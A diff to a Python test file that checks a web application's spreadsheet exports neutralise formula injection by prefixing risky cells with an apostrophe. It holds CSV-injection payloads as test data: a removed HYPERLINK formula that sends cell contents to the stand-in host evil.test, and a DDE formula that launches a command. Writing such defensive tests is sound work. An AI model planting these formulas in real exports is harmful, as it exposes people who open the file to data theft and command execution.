@@ -68,14 +68,14 @@ def test_a_cell_that_begins_like_a_formula_is_text(evil: str) -> None:
 
 
 async def test_what_people_typed_runs_in_no_spreadsheet(running: Runtime, earned: Person, admin: Person) -> None:
-    await ask(earned, '=HYPERLINK("http://evil.test?"&A1,"click")')
+    await ask(earned, "=a+b@evil.test")
     campaign = await factories.a_campaign(running.database, admin.actor, title="=cmd|' /C calc'!A0")
     sent = await factories.a_submission(running.database, earned.actor, campaign, factories.tiktok(2))
     async with running.database.writing() as session:
         await review.reject(session, admin.actor, sent.id, '@SUM(1+1), "quoted"\nand on')
 
     [payout] = rows(await admin.http.get(PAYOUTS))
-    assert payout["details"] == '\'=HYPERLINK("http://evil.test?"&A1,"click")'
+    assert payout["details"] == "'=a+b@evil.test"
     [entry] = rows(await admin.http.get(AUDIT, params={"action": "submission.rejected"}))
     assert entry["reason"] == '\'@SUM(1+1), "quoted"\nand on'
     for row in rows(await admin.http.get(PAYOUTS)) + rows(await admin.http.get(AUDIT)):
